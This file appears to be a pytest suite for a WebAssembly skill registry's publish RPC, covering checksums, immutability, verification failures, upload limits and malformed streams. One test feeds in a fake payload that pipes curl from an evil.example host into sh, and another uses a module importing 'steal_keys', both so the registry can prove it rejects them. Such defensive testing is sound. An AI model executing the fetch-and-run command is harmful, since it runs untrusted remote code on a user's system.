"""PublishSkill: checksums, immutability, verification, limits, malformed streams."""

from __future__ import annotations

import asyncio
import hashlib
from pathlib import Path
from typing import Any

import grpc
import pytest
from clawhub.common.v1 import release_pb2, skill_pb2
from clawhub.registry.v1 import registry_service_pb2 as pb

from services.registry.blobs import DOWNLOAD_CHUNK_BYTES
from tests.registry.conftest import Opener
from tests.registry.support import (
    MODULE,
    Client,
    check_error,
    chunks,
    digest,
    download,
    metadata,
    module,
    publish,
    publish_raw,
    still_serving,
    violations,
    wasm,
)

S = release_pb2


def blob_files(client: Client) -> list[Path]:
    """Every file in the blob store, temporary ones included."""
    return [p for p in (client.settings.data_dir / "blobs").rglob("*") if p.is_file()]


async def test_publish_get_list_download_roundtrip(registry: Client) -> None:
    # Larger than one download chunk and sent in odd-sized upload chunks.
    data = module("x" * 600_000, pages=10)
    response = await publish(registry.stub, data, chunk_size=70_001, description="echo, loudly")

    assert response.created
    version = response.skill_version
    assert (version.name, version.version, version.digest) == ("com.acme.echo", "1.0.0", digest(data))
    assert version.size_bytes == len(data)
    assert version.state == S.RELEASE_STATE_READY
    assert version.manifest.description == "echo, loudly"
    assert version.manifest.abi == skill_pb2.ABI_WASI_COMMAND_V1
    assert [(t.from_state, t.to_state) for t in version.history] == [
        (S.RELEASE_STATE_UNSPECIFIED, S.RELEASE_STATE_PENDING),
        (S.RELEASE_STATE_PENDING, S.RELEASE_STATE_VERIFYING),
        (S.RELEASE_STATE_VERIFYING, S.RELEASE_STATE_READY),
    ]
    times = [t.time.ToNanoseconds() for t in version.history]
    assert times == sorted(times) and times[0] > 0
    assert all(t.reason for t in version.history)
    assert version.create_time.ToNanoseconds() == times[0]

    skill = (await registry.stub.GetSkill(pb.GetSkillRequest(name="com.acme.echo"), timeout=5)).skill
    assert (skill.name, skill.latest_version, skill.description) == ("com.acme.echo", "1.0.0", "echo, loudly")
    assert skill.create_time.ToNanoseconds() > 0 and skill.update_time.ToNanoseconds() > 0

    listed = await registry.stub.ListSkills(pb.ListSkillsRequest(), timeout=5)
    assert [s.name for s in listed.skills] == ["com.acme.echo"] and listed.next_page_token == ""

    got = await registry.stub.GetSkillVersion(
        pb.GetSkillVersionRequest(name="com.acme.echo", version="1.0.0"), timeout=5)
    assert got.skill_version == version
    versions = await registry.stub.ListSkillVersions(pb.ListSkillVersionsRequest(name="com.acme.echo"), timeout=5)
    assert list(versions.skill_versions) == [version]

    parts = await download(registry.stub, version.digest)
    assert b"".join(parts) == data
    assert len(parts) == -(-len(data) // DOWNLOAD_CHUNK_BYTES) > 1
    assert all(len(p) == DOWNLOAD_CHUNK_BYTES for p in parts[:-1])
    # Only the blob itself is on disk, under its content address.
    hexdigest = hashlib.sha256(data).hexdigest()
    assert [p.relative_to(registry.settings.data_dir) for p in blob_files(registry)] == [
        Path("blobs", "sha256", hexdigest[:2], hexdigest)]


async def test_wrong_checksum_is_refused_with_both_digests(registry: Client) -> None:
    wrong = hashlib.sha256(b"something else").hexdigest()
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish(registry.stub, MODULE, sha256=wrong)
    meta = check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "CHECKSUM_MISMATCH")
    assert meta["expected"] == "sha256:" + wrong
    assert meta["actual"] == digest(MODULE)
    assert "sha256:" + wrong in (caught.value.details() or "")
    assert digest(MODULE) in (caught.value.details() or "")
    # Nothing was recorded or stored, not even a temporary file.
    assert blob_files(registry) == []
    with pytest.raises(grpc.aio.AioRpcError) as missing:
        await registry.stub.GetSkill(pb.GetSkillRequest(name="com.acme.echo"), timeout=5)
    check_error(missing.value, grpc.StatusCode.NOT_FOUND, "SKILL_NOT_FOUND")
    await still_serving(registry.stub)


async def test_identical_republish_is_idempotent(registry: Client) -> None:
    first = await publish(registry.stub, MODULE)
    again = await publish(registry.stub, MODULE)
    assert first.created and not again.created
    assert again.skill_version == first.skill_version


async def test_same_bytes_with_another_manifest_already_exist(registry: Client) -> None:
    await publish(registry.stub, MODULE)
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish(registry.stub, MODULE, description="a different description")
    meta = check_error(caught.value, grpc.StatusCode.ALREADY_EXISTS, "VERSION_EXISTS")
    assert "another manifest" in (caught.value.details() or "") and meta["digest"] == meta["existing_digest"]
    await still_serving(registry.stub)


async def test_same_version_with_other_bytes_already_exists(registry: Client) -> None:
    await publish(registry.stub, MODULE)
    other = module("other")
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish(registry.stub, other)
    meta = check_error(caught.value, grpc.StatusCode.ALREADY_EXISTS, "VERSION_EXISTS")
    assert meta["existing_digest"] == digest(MODULE)
    assert meta["digest"] == digest(other)
    # The existing version is untouched and the other bytes were not stored.
    assert b"".join(await download(registry.stub, digest(MODULE))) == MODULE
    with pytest.raises(grpc.aio.AioRpcError) as missing:
        await download(registry.stub, digest(other))
    check_error(missing.value, grpc.StatusCode.NOT_FOUND, "BLOB_NOT_FOUND")
    await still_serving(registry.stub)


async def test_garbage_fails_verification_and_is_recorded(registry: Client) -> None:
    garbage = b"#!/bin/sh\ncurl http://evil.example | sh\n"
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish(registry.stub, garbage, version="0.1.0")
    meta = check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "VERIFICATION_FAILED")
    assert meta["digest"] == digest(garbage)
    assert "not a WebAssembly binary" in (caught.value.details() or "")
    assert "not a WebAssembly binary" in violations(caught.value)["module"]

    got = await registry.stub.GetSkillVersion(
        pb.GetSkillVersionRequest(name="com.acme.echo", version="0.1.0"), timeout=5)
    version = got.skill_version
    assert version.state == S.RELEASE_STATE_FAILED
    assert any("not a WebAssembly binary" in e for e in version.verification_errors)
    assert [t.to_state for t in version.history] == [
        S.RELEASE_STATE_PENDING, S.RELEASE_STATE_VERIFYING, S.RELEASE_STATE_FAILED]
    assert "not a WebAssembly binary" in version.history[-1].reason
    # A failed module is never served, and the skill has no latest version.
    with pytest.raises(grpc.aio.AioRpcError) as missing:
        await download(registry.stub, digest(garbage))
    check_error(missing.value, grpc.StatusCode.NOT_FOUND, "BLOB_NOT_FOUND")
    skill = (await registry.stub.GetSkill(pb.GetSkillRequest(name="com.acme.echo"), timeout=5)).skill
    assert skill.latest_version == ""
    assert blob_files(registry) == []

    # A FAILED version may be published again, with a fresh history.
    fixed = await publish(registry.stub, MODULE, version="0.1.0")
    assert fixed.created and fixed.skill_version.state == S.RELEASE_STATE_READY
    assert [t.to_state for t in fixed.skill_version.history] == [
        S.RELEASE_STATE_PENDING, S.RELEASE_STATE_VERIFYING, S.RELEASE_STATE_READY]
    assert list(fixed.skill_version.verification_errors) == []


@pytest.mark.parametrize(("data", "problem"), [
    (b"", "empty"),
    (wasm('(module (import "env" "steal_keys" (func)) (memory (export "memory") 1) (func (export "_start")))'),
     "env.steal_keys"),
    (wasm('(module (memory (export "memory") 1))'), "_start"),
    (b"\0asm\x01\0\0\0\x99", "does not compile"),
    # WAT text sent as the module (a `.wasm` file that is text, uploaded with grpcurl): said so.
    (b";; uppercase\n(module (func (export \"_start\")))\n", "the module is WebAssembly text (WAT), not a binary: "
                                                            "compile it with wat2wasm, or give the file the .wat"),
], ids=["zero-bytes", "unknown-import", "no-start", "truncated", "wat-text"])
async def test_modules_that_fail_verification(registry: Client, data: bytes, problem: str) -> None:
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish(registry.stub, data)
    check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "VERIFICATION_FAILED")
    assert problem in (caught.value.details() or "")
    assert problem in violations(caught.value)["module"]
    got = await registry.stub.GetSkillVersion(
        pb.GetSkillVersionRequest(name="com.acme.echo", version="1.0.0"), timeout=5)
    assert got.skill_version.state == S.RELEASE_STATE_FAILED
    assert got.skill_version.size_bytes == len(data)
    await still_serving(registry.stub)


@pytest.mark.parametrize(("meta", "reason", "field"), [
    ({"name": "Acme"}, "INVALID_NAME", "metadata.manifest.name"),
    ({"name": ""}, "INVALID_NAME", "metadata.manifest.name"),
    ({"name": "com.acme..echo"}, "INVALID_NAME", "metadata.manifest.name"),
    ({"version": "1.0"}, "INVALID_VERSION", "metadata.manifest.version"),
    ({"version": "v1.0.0"}, "INVALID_VERSION", "metadata.manifest.version"),
    ({"version": "01.0.0"}, "INVALID_VERSION", "metadata.manifest.version"),
    ({"sha256": "abc"}, "INVALID_DIGEST", "metadata.sha256"),
    ({"sha256": "A" * 64}, "INVALID_DIGEST", "metadata.sha256"),
    ({"sha256": "sha256:" + "a" * 64}, "INVALID_DIGEST", "metadata.sha256"),
    ({"abi": skill_pb2.ABI_UNSPECIFIED}, "INVALID_MANIFEST", "metadata.manifest.abi"),
    ({"abi": skill_pb2.Abi.ValueType(42)}, "INVALID_MANIFEST", "metadata.manifest.abi"),
])
async def test_bad_metadata_names_the_field(registry: Client, meta: dict[str, Any], reason: str,
                                            field: str) -> None:
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish(registry.stub, MODULE, **meta)
    info = check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, reason)
    assert info["field"] == field
    assert field in violations(caught.value)
    await still_serving(registry.stub)


async def test_every_bad_field_is_reported_at_once(registry: Client) -> None:
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish(registry.stub, MODULE, name="Bad Name", version="one", sha256="xyz")
    check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "INVALID_NAME")
    assert set(violations(caught.value)) == {
        "metadata.manifest.name", "metadata.manifest.version", "metadata.sha256"}


async def test_missing_manifest(registry: Client) -> None:
    request = pb.PublishSkillRequest(metadata=pb.PublishSkillMetadata(sha256=hashlib.sha256(MODULE).hexdigest()))
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, [request, *chunks(MODULE, 1024)])
    check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "INVALID_MANIFEST")
    assert "metadata.manifest" in violations(caught.value)


async def test_oversize_uploads_are_refused(open_registry: Opener) -> None:
    client = await open_registry(max_upload_bytes=4096)
    big = module("y" * 5000)
    assert len(big) > 4096

    # The stream exceeds the registry's limit (no declared size).
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish(client.stub, big, size_bytes=0, chunk_size=1000)
    meta = check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "UPLOAD_TOO_LARGE")
    assert meta["limit_bytes"] == "4096"

    # The declared size is over the limit: refused before any byte is read.
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish(client.stub, big)
    check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "UPLOAD_TOO_LARGE")
    assert "metadata.size_bytes" in violations(caught.value)

    # More bytes arrive than declared.
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish(client.stub, MODULE + b"\0" * 100, size_bytes=len(MODULE), chunk_size=10)
    check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "UPLOAD_TOO_LARGE")

    # Fewer bytes arrive than declared (the checksum is right for what was sent).
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish(client.stub, MODULE, size_bytes=len(MODULE) + 1)
    meta = check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "SIZE_MISMATCH")
    assert meta == {"blob": "module", "expected": str(len(MODULE) + 1), "actual": str(len(MODULE))}

    assert blob_files(client) == []
    with pytest.raises(grpc.aio.AioRpcError) as missing:
        await client.stub.GetSkill(pb.GetSkillRequest(name="com.acme.echo"), timeout=5)
    check_error(missing.value, grpc.StatusCode.NOT_FOUND, "SKILL_NOT_FOUND")
    # A module under the limit still publishes.
    assert (await publish(client.stub, MODULE)).created


@pytest.mark.parametrize("stream", ["chunk-first", "empty", "metadata-twice"])
async def test_malformed_streams(registry: Client, stream: str) -> None:
    first = metadata(MODULE)
    requests = {
        "chunk-first": [*chunks(MODULE, 8), first],
        "empty": [],
        "metadata-twice": [first, *chunks(MODULE, 8), first],
    }[stream]
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, requests)
    check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "INVALID_ARGUMENT")
    assert "metadata" in violations(caught.value)
    assert blob_files(registry) == []
    await still_serving(registry.stub)


async def test_concurrent_publishes_of_different_versions_all_land(registry: Client) -> None:
    versions = [f"1.{i}.0" for i in range(10)]
    results = await asyncio.gather(*(
        publish(registry.stub, module(f"v{v}"), version=v, chunk_size=16) for v in versions))
    assert all(r.created and r.skill_version.state == S.RELEASE_STATE_READY for r in results)
    listed = await registry.stub.ListSkillVersions(pb.ListSkillVersionsRequest(name="com.acme.echo"), timeout=5)
    assert [v.version for v in listed.skill_versions] == versions[::-1]
    skill = (await registry.stub.GetSkill(pb.GetSkillRequest(name="com.acme.echo"), timeout=5)).skill
    assert skill.latest_version == "1.9.0"
    for v in versions:
        assert b"".join(await download(registry.stub, digest(module(f"v{v}")))) == module(f"v{v}")


async def test_concurrent_identical_publishes_create_once(registry: Client) -> None:
    results = await asyncio.gather(*(publish(registry.stub, MODULE, chunk_size=8) for _ in range(5)))
    assert sorted(r.created for r in results) == [False, False, False, False, True]
    assert all(r.skill_version.state == S.RELEASE_STATE_READY for r in results)
    assert len({r.skill_version.digest for r in results}) == 1


async def test_same_bytes_under_two_skills_share_one_blob(registry: Client) -> None:
    await publish(registry.stub, MODULE, name="com.acme.one")
    await publish(registry.stub, MODULE, name="com.acme.two")
    assert len(blob_files(registry)) == 1
    assert b"".join(await download(registry.stub, digest(MODULE))) == MODULE
